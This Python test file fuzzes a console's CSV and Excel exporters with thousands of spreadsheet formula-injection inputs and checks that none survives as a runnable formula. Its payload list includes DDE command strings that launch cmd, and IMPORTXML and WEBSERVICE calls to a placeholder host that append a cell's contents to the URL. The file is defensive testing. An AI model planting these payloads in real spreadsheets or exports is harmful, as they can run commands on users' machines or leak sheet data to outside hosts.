"""No text of ours runs in a spreadsheet: generated cells, written by our exports and read back by others."""

import csv
import io
import os
import random
import re
import zipfile
from zoneinfo import ZoneInfo

import pytest
from python_calamine import CalamineWorkbook

from console.sheets.columns import Column, ColumnType
from console.sheets.csv_writer import csv_text
from console.sheets.formulas import NUMBER
from console.sheets.xlsx_writer import write_xlsx

CELLS = int(os.environ.get("FORMULA_CELLS", "5000"))
ZONE = ZoneInfo("Asia/Shanghai")
STARTS = [
    *(
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        "＝",
        "＋",
        "－",
        "＠",
        "=-",
        "+@",
        "\t=",
        "\r+",
        "'=",
        '"=',
        ";=",
        ",=",
    ),
    *(" =", "\ufeff=", "\u200b=", "\xa0=", "\u2060@", "\x0b-", "\x1f="),
]
BODIES = [
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example","a")',
    'IMPORTXML("http://x.example/"&A1,"//a")',
    'WEBSERVICE("http://x.example")',
    'DDE("cmd";"/C calc";"a")',
    "1;=2+3",
    '1,"=2+3',
    "1\t=2+3",
    "1\r\n=2+3",
    "-1",
    "A1",
]
NUMBERS = ["5", "-5", "+3.5", "-12%", "0"]
DANGEROUS = "=+-@＝＋－＠"
COLUMNS = [Column("a", "A"), Column("b", "B", ColumnType.ID), Column("n", "N", ColumnType.NUMBER)]
#: A number and what follows it where the quotes are read otherwise: no formula goes on with a quote.
NUMBER_AND_TEXT = re.compile(r'[+-]?[0-9]+(\.[0-9]+)?%?,?"')


@pytest.fixture(scope="module")
def cells() -> list[str]:
    chosen = random.Random(7)
    noise = "=+-@;,\"'\t\r\n |!A1()＝－ \u200b"
    made = [start + body for start in STARTS for body in BODIES]
    while len(made) < CELLS:
        tail = "".join(chosen.choices(noise, k=chosen.randrange(6)))
        made.append(chosen.choice(STARTS) + tail + chosen.choice(BODIES))
    return made[:CELLS]


def runs(cell: str) -> bool:
    """Whether Excel, LibreOffice or Google's sheets would take the cell for a formula."""
    bare = re.sub(r"^[\s\ufeff\u200b-\u200f\u2060\x00-\x1f]+", "", cell)
    harmless = NUMBER.fullmatch(bare.strip()) or NUMBER_AND_TEXT.match(bare)
    return bool(bare) and bare[0] in DANGEROUS and not harmless


def rows_of(cells: list[str]) -> list[dict[str, object]]:
    return [{"a": cell, "b": cell, "n": -5} for cell in cells]


def test_the_judge_knows_what_runs() -> None:
    assert runs("=1+1")
    assert runs(" \t@SUM(A1)")
    assert not runs("'=1+1")
    assert not runs("-5")


def test_no_cell_of_a_csv_file_runs_whatever_separator_its_reader_takes(cells: list[str]) -> None:
    told = csv_text(rows_of(cells), COLUMNS, zone=ZONE).removeprefix("\ufeff")
    found = 0
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(told, newline=""), delimiter=separator):
            found += sum(runs(cell) for cell in row)
    print(f"{len(cells)} formula cells in csv, read with three separators: {found} run")
    assert found == 0


def test_no_cell_of_an_excel_file_is_a_formula_and_numbers_stay_numbers(cells: list[str]) -> None:
    with write_xlsx(rows_of(cells), COLUMNS, "A", zone=ZONE) as file:
        back = CalamineWorkbook.from_filelike(file).get_sheet_by_index(0).to_python()[1:]
        with zipfile.ZipFile(file) as parts:
            written = parts.read("xl/worksheets/sheet1.xml")
            linked = [name for name in parts.namelist() if "externalLink" in name or "_rels/sheet" in name]
    formulas = written.count(b"<f>") + written.count(b"<f ") + written.count(b"<hyperlink") + len(linked)
    print(f"{len(cells)} formula cells in xlsx: {formulas} run")
    assert formulas == 0
    assert [row[0] for row in back] == cells
    assert {row[2] for row in back} == {-5.0}


def test_numbers_stay_numbers_in_csv() -> None:
    told = csv_text([{"a": one, "b": one, "n": -5} for one in NUMBERS], COLUMNS, zone=ZONE)
    assert [row[0] for row in csv.reader(io.StringIO(told.removeprefix("\ufeff")))][1:] == NUMBERS
